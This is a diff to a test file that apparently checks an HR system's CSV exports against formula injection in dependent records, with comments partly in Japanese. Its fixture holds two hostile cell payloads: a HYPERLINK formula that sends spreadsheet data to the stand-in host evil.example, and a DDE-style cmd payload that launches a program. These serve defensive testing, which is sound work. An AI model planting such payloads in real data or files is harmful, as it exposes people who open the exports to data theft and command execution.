@@ -90,7 +90,10 @@ describe('every registered CSV format, hostile cells in every column', () => {
   })
 })
 
-/** What the employee types for a dependent (an HTTP request, as the SPA sends it), and HR's import for the employee. */
+/**
+ * What the employee types for a dependent (an HTTP request, as the SPA sends it; 続柄 is chosen, so
+ * its text comes from HR's import, which keeps 続柄 as written), and HR's import for the employee.
+ */
 const TYPED = {
   dependentName: '=HYPERLINK("https://evil.example/?d="&F2:F99,"詳細")',
   relationship: "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -120,10 +123,11 @@ async function hostileHousehold() {
     method: 'POST',
     url: '/api/employee/persons',
     headers: employee.auth,
-    payload: { name: TYPED.dependentName, kana: 'ソウゴウ ジロウ', relationship: TYPED.relationship, birthDate: '2015-04-01' },
+    payload: { name: TYPED.dependentName, kana: 'ソウゴウ ジロウ', relationship: '02', birthDate: '2015-04-01' },
   })
   expect(added.statusCode, added.body).toBe(201)
   const dependentId = added.json<{ id: string }>().id
+  await context.db.person.update({ where: { id: dependentId }, data: { relationship: TYPED.relationship } })
   const photo = await cardPhoto()
   for (const personId of [employee.employee.id, dependentId]) {
     for (const side of ['front', 'back']) {
